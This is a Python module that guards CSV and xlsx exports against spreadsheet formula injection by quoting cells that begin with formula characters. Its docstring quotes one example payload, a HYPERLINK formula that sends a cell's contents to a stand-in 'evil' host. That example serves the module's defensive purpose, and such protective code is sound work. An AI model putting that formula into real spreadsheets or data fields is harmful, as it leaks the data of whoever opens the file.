"""Text for spreadsheets: cells that a registry or device wrote are never live formulas.

A site named ``=HYPERLINK("http://evil/?"&A1)`` must reach the city's reviewers as
text. CSV has no cell types, so a text cell starting with ``=``, ``+``, ``-``, ``@``,
tab or CR gets a leading ``'`` (OWASP, "CSV Injection"); numbers are written as
numbers and never escaped. The workbook types such cells as strings instead
(:func:`excel_text`), so names keep their exact text there.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would take it for a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value: object) -> str:
    """One CSV cell: empty for None, ``true``/``false``, numbers as is, text defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return defuse(value)
    return str(value)


def csv_text(header: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """CSV with a header row and CRLF line ends, every cell through :func:`csv_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue()


def excel_text(text: str) -> str:
    """``text`` without the control characters an xlsx file cannot hold (they become U+FFFD)."""
    cleaned: str = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
    return cleaned
